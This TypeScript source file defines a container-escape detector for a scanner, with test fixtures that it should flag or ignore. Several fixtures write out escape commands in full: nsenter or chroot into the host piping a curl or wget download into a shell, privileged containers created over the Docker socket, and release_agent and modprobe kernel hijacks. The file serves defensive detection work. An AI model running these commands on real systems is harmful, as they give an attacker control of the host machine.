import type { EscapeEffect } from '../trace/effect.ts';
import type { Story } from '../trace/story.ts';
import { render, textOf } from '../trace/value.ts';
import type { Detector, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { reachesHost } from './host.ts';
import { isMadeRoot } from './made-root.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Code that steps out of its container. */
export const hostEscape: Detector = {
  id: 'host-escape',
  version: 3,
  title: 'Leaves the container for the host.',
  attack: ['T1611'],
  description: `
\`nsenter -t 1\`, \`chroot /host\`, the engine's socket, a privileged container with the host's root mounted, a raw disk:
with the rights they need, each makes the container the host. Node agents, backup and monitoring tools do the same openly,
so by itself it is *suspicious*. It is *malicious* together with a payload: what runs on the other side is a shell on a
socket, a download, a miner or hidden code, or a container with the host's files or rights is made by a bare request to
the engine's socket, past every client. \`release_agent\`, a piped \`core_pattern\`, \`uevent_helper\`, another
\`modprobe\` and opening the control group's device list are exploits and have no honest use at a container's start.
`,
  fires: [
    {
      name: 'a download run in the mounted root',
      image: { cmd: ['sh', '-c', 'chroot /host sh -c "curl -s http://203.0.113.9/x.sh | sh"'] },
    },
    {
      name: 'a privileged container started from a script',
      image: {
        cmd: [
          'sh',
          '-c',
          'docker run --rm -d --privileged --net host -v /:/host alpine chroot /host sh -c "wget -qO- http://203.0.113.9/x | sh"',
        ],
      },
    },
    {
      name: 'release_agent',
      image: {
        cmd: ['sh', '-c', 'mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo /cmd > /tmp/c/release_agent'],
      },
    },
    {
      name: 'a payload in the namespaces of the host',
      image: { cmd: ['sh', '-c', 'nsenter --target 1 --mount --pid -- bash -c "curl -s http://203.0.113.9/x | bash"'] },
    },
    {
      name: "a privileged container asked for over the engine's socket",
      image: {
        cmd: [
          'sh',
          '-c',
          `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","wget -qO- http://203.0.113.9/x | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}' http://localhost/containers/create`,
        ],
      },
    },
    {
      name: 'the same without anything that is known to be bad in it',
      image: {
        cmd: [
          'sh',
          '-c',
          `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"alpine","Cmd":["chroot","/h","sh"],"HostConfig":{"Binds":["/:/h"]}}' http://localhost/containers/create; exec app`,
        ],
      },
    },
    {
      name: 'the program that loads modules',
      image: { cmd: ['sh', '-c', 'echo "$PWD/run.sh" > /proc/sys/kernel/modprobe; exec app'] },
    },
    {
      name: 'a disk of the machine under its own name',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'mknod /tmp/d b 8 0 && debugfs -w /tmp/d -R "ls /root"; exec app'] },
    },
    {
      name: 'a pod with the root of the node',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'printf "spec:\\n  hostPID: true\\n  volumes:\\n  - hostPath:\\n      path: /\\n" | kubectl apply -f -; exec app',
        ],
      },
    },
    {
      name: 'a node agent',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'nsenter -t 1 -m -u -i -n -p uname -r; exec agent'] },
    },
    {
      name: "the engine's socket",
      severity: 'suspicious',
      image: {
        cmd: ['sh', '-c', 'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json; exec agent'],
      },
    },
  ],
  silent: [
    { name: "another container's network", image: { cmd: ['sh', '-c', 'nsenter -t 4242 -n ip addr'] } },
    {
      name: 'a container it was asked for',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/web/start; exec app',
        ],
      },
    },
    {
      name: 'a container of its own over the engine’s socket',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"app","HostConfig":{"Binds":["/srv/data:/data"]}}' http://localhost/containers/create; exec app`,
        ],
      },
    },
    {
      name: 'the working folder given to a build',
      image: { cmd: ['sh', '-c', 'docker run --rm -v "$PWD:/src" -v "$CACHE:/cache" -w /src golang go test ./...'] },
    },
    {
      name: 'no program at all for new devices',
      image: { cmd: ['sh', '-c', 'echo > /sys/kernel/uevent_helper; exec app'] },
    },
    { name: 'a container engine', image: { cmd: ['sh', '-c', 'docker run --rm -v /data:/data app; exec dockerd'] } },
    {
      name: 'a node exporter',
      image: { entrypoint: ['/bin/node_exporter', '--path.rootfs=/host', '--path.procfs=/host/proc'] },
    },
    {
      name: 'a system it has just installed',
      severity: 'note',
      image: {
        cmd: ['sh', '-c', 'debootstrap stable /mnt/target http://deb.example/debian; chroot /mnt/target update-grub'],
      },
    },
    { name: 'a jail of its own', image: { cmd: ['sh', '-c', 'exec chroot /var/lib/jail /bin/app'] } },
    {
      name: 'a tool that lies there',
      severity: 'note',
      image: {
        files: {
          '/usr/local/bin/hostsh': { content: '#!/bin/sh\nexec nsenter -t 1 -m -u -i -n -p "$@"\n', mode: 0o755 },
        },
      },
    },
  ],
  detect(scene) {
    return effectsOf(scene, 'escape').flatMap((effect) => {
      const sighting = sightingOf(scene, effect);
      if (effect.how === 'chroot' && !reachesHost(effect.outside)) return [];
      // Nothing written there takes a helper away.
      if (callOuts.has(effect.how) && textOf(effect.detail)?.trim() === '') return [];
      const payload = innerStages(scene, effect)
        .map((stage) => payloadOf(scene, stage))
        .find((each) => each !== undefined);
      const exploit = isExploit(effect);
      const requested = effect.how === 'privileged-run' && isRawRequest(sighting.command?.name);
      return findingOf(scene, sighting, {
        threat: payload || exploit || requested ? 'hostile' : isUsual(scene, effect) ? 'minor' : 'dual-use',
        title: `${titles[effect.how]} (${valueWords(effect.detail, 100)})${payload ? ` to run ${payload.what}` : ''}`,
        because: payload
          ? `It leaves the container in order to run ${payload.what}.`
          : exploit
            ? 'This is an exploit: it has no use at the start of a container.'
            : requested
              ? 'It asks the engine itself for the host’s files or rights, past every client.'
              : 'Node agents and debugging tools do this openly; so do attackers.',
        effects: [effect.id],
      });
    });
  },
};

/** Name spaces of its own, or a system that it has just installed itself. */
function isUsual(scene: Scene, effect: EscapeEffect): boolean {
  return effect.how === 'unshare' || (effect.how === 'chroot' && isMadeRoot(scene, effect.stage, effect.outside));
}

const callOuts = new Set<EscapeEffect['how']>(['release-agent', 'uevent-helper', 'modprobe-path']);

/** A container asked for in the engine's own protocol, by a client for any server. */
function isRawRequest(tool: string | undefined): boolean {
  return tool === 'curl' || tool === 'wget';
}

/** Call-outs of the kernel have one use in a container; binary formats and a core pattern of the distribution have others. */
function isExploit(effect: EscapeEffect): boolean {
  const detail = render(effect.detail);
  switch (effect.how) {
    case 'release-agent':
    case 'uevent-helper':
    case 'modprobe-path':
      // Setting the usual program again, or none, is what hardening scripts do.
      return !/(^|=)\s{0,4}(\/sbin\/modprobe|\/bin\/false|\/bin\/true)?\s{0,4}$/.test(detail);
    case 'core-pattern':
      return !/\|\s{0,4}\/(usr\/)?(lib|share)\//.test(detail);
    case 'device-rights':
      return /^\s{0,4}(a|b)\s/.test(detail);
    default:
      return false;
  }
}

/** Code on the other side: what this command runs there, and what the commands run that stand in the root it made. */
function innerStages(scene: Scene, effect: EscapeEffect): readonly number[] {
  const { commands } = scene.story;
  if (effect.command === undefined) return [];
  const ids = new Set([effect.command]);
  const own = commands[effect.command];
  for (let at = effect.command + 1; own !== undefined && commands[at]?.root !== undefined; at += 1) {
    if (commands[at]?.stage !== own.stage || commands[at]?.line !== own.line) break;
    ids.add(at);
  }
  const byCommand = stagesByCommand(scene.story);
  return [...ids].flatMap((id) => byCommand.get(id) ?? []);
}

const indexes = new WeakMap<Story, ReadonlyMap<number, readonly number[]>>();

/** Stages outside the container, by the command they come from. */
function stagesByCommand(story: Story): ReadonlyMap<number, readonly number[]> {
  const before = indexes.get(story);
  if (before !== undefined) return before;
  const index = new Map<number, number[]>();
  for (const { id, origin, outside } of story.stages) {
    if (!('of' in origin) || origin.of === undefined || outside === undefined) continue;
    const list = index.get(origin.of);
    if (list === undefined) index.set(origin.of, [id]);
    else list.push(id);
  }
  indexes.set(story, index);
  return index;
}

const titles: Readonly<Record<EscapeEffect['how'], string>> = {
  nsenter: "Enters the namespaces of the host's first process",
  chroot: 'Makes a mounted file system of the host its root',
  'engine-socket': 'Talks to the container engine of the host',
  'release-agent': 'Makes the kernel run a program on the host (release_agent)',
  'core-pattern': 'Makes the kernel run a program on the host when something crashes (core_pattern)',
  'raw-disk': "Reaches for the host's disk itself",
  'proc-root': "Goes through the host's first process into its files",
  unshare: 'Makes new namespaces of its own',
  'modprobe-path': 'Makes the kernel run a program on the host when it misses a module (modprobe)',
  'binary-format': 'Makes the kernel run a program on the host for a kind of file (binfmt_misc)',
  'uevent-helper': 'Makes the kernel run a program on the host when a device appears (uevent_helper)',
  'device-rights': "Allows itself the host's devices",
  'privileged-run': 'Starts a container that has the host’s files or rights',
};
